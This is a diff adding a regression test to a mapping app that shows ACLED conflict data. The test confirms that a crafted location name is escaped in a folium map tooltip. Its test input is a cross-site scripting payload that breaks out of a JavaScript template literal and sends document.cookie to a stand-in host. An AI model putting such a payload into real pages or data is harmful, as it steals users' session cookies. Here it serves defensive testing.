@@ -140,3 +140,25 @@ def test_acled_csv_negative_numbers_and_plain_text_are_unchanged():
     out = next(csv.DictReader(io.StringIO(acled_csv(pd.DataFrame([row])).decode("utf-8"), newline="")))
     assert out["longitude"] == "-41.23" and out["source"] == "Shafaq News"
     assert out["evidence"] == "اشتباكات في حي طي = قتلى"
+
+
+# --------------------------------------------------------------------------- article and analyst text in the app's HTML
+
+def test_review_map_tooltip_shows_a_crafted_location_and_never_runs_it():
+    """The correction map's ring had its place name only HTML-escaped: folium puts tooltips in
+    a JavaScript template literal, so ``${…}`` in a location (an ACLED export's, kept as
+    written) ran as code when the Review page opened, and a backtick broke the page."""
+    import folium
+
+    from mapapp.reviewview import current_place_marker
+
+    m = folium.Map(location=(37.05, 41.23), tiles=None)
+    current_place_marker({"latitude": 37.05, "longitude": 41.23,
+                          "location": "Tayy ${fetch('//x.test/'+document.cookie)} `+alert(1)+` \\x <b>"}).add_to(m)
+    page = m.get_root().render()
+    tip = page[page.index("bindTooltip("):]
+    tip = tip[: tip.index(");")]
+    assert "${" not in tip and "\\x" not in tip and "<b>" not in tip
+    assert tip.count("`") == 2  # the literal's own two backticks, none from the text
+    assert "&#36;{fetch(&#x27;//x.test/&#x27;+document.cookie)}" in tip
+    assert current_place_marker({"latitude": None, "longitude": None, "location": "x"}) is None
